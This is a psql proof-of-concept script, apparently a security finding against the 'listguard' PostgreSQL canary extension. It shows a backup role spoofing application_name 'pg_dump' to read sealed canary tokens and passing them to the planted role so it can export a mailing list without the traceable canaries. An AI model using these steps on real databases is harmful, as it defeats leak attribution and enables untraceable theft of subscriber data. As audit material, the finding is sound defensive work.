-- FINDING (attack2, listguard_backup): protect()/the extension grant
-- listguard_backup SELECT on listguard.canaries, and nothing confines it to
-- dump sessions. Outside a dump a backup login reads which roles have
-- canaries, in which table, account and list, and their masks; in a dump
-- session (application_name = pg_dump, which it sets itself) it reads their
-- sealed tokens, which are values: "email = <token>" finds the canary rows.
-- The backup login alone learns the ids of every canary row of every table
-- (it reads every row in a dump); handed to the role the canaries are
-- planted for (a_clear), that role exports its list without them, and a
-- leak is no longer attributable. Before 0.3 only admins and superusers
-- read the registry.
-- Needs the fixture of setup.sql (run as superuser).
\set VERBOSITY terse
\c atk postgres
CREATE ROLE a_bk LOGIN IN ROLE listguard_backup;
\c atk a_bk
SELECT count(*) AS protected_rows_outside_dump FROM subs;
SELECT role, relid, account, list, address FROM listguard.canaries WHERE role IS NOT NULL;
SET application_name = 'pg_dump';
-- the canary rows, by id, through their sealed tokens
SELECT s.id, c.role FROM subs s JOIN listguard.canaries c ON c.address = s.email WHERE c.role IS NOT NULL;
SELECT string_agg(quote_literal(address::text), ',') AS tokens FROM listguard.canaries WHERE role = 'a_clear'::regrole \gset
\c atk a_clear
-- the planted role finds its canaries with the tokens (an equality, free) ...
SELECT id FROM subs WHERE email IN (:tokens);
-- ... and would export everything else: SELECT email::text FROM subs WHERE email NOT IN (:tokens)
-- cleanup
\c atk postgres
DROP ROLE a_bk;
